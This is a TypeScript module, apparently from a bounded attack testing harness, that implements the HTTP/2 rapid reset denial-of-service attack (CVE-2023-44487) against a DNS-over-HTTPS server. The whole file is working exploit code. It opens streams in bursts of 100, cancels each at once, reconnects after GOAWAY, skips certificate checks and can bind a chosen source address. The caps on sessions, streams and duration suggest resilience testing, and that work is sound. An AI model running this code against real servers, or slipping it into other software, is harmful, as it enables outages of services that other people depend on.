// HTTP/2 rapid reset (CVE-2023-44487): open a DoH stream and cancel it at once, over and over,
// on one connection from one source (reconnecting when the server sends GOAWAY). Bounded.

import http2 from 'node:http2';
import type { AttackReport, AttackSpec } from '../spec.ts';

const MAX_SESSIONS = 200;

export async function rapidReset(s: Extract<AttackSpec, { kind: 'rapid-reset' }>): Promise<AttackReport> {
  const counters = { streams: 0, sessions: 0, goaways: 0, sessionErrors: 0 };
  const end = performance.now() + s.durationS * 1000;
  const body = Buffer.from('abcd01000001000000000000' + '0377777707657861' + '6d706c6500' + '00010001', 'hex');
  while (performance.now() < end && counters.streams < s.maxStreams && counters.sessions < MAX_SESSIONS) {
    counters.sessions++;
    const session = http2.connect(`https://${s.host}:${s.port}`, { rejectUnauthorized: false, localAddress: s.source } as http2.SecureClientSessionOptions);
    session.on('goaway', () => counters.goaways++);
    session.on('error', () => counters.sessionErrors++);
    await new Promise<void>((resolve) => {
      let done = false;
      const finish = (): void => {
        if (done) return;
        done = true;
        session.destroy();
        resolve();
      };
      session.on('close', finish);
      session.on('error', finish);
      session.on('goaway', finish);
      // A session that never connects (or stalls) must not outlive the attack.
      setTimeout(finish, Math.max(0, end - performance.now())).unref();
      session.once('connect', () => {
        const burst = (): void => {
          if (done) return;
          if (performance.now() >= end || counters.streams >= s.maxStreams) return finish();
          for (let i = 0; i < 100 && !session.destroyed && !session.closed; i++) {
            try {
              const req = session.request({ ':method': 'POST', ':path': s.path, 'content-type': 'application/dns-message' }, { endStream: false });
              req.on('error', () => {});
              req.write(body);
              req.close(http2.constants.NGHTTP2_CANCEL);
              counters.streams++;
            } catch {
              return finish();
            }
          }
          setImmediate(burst);
        };
        burst();
      });
    });
  }
  return { sent: counters.streams, received: counters.goaways, counters };
}
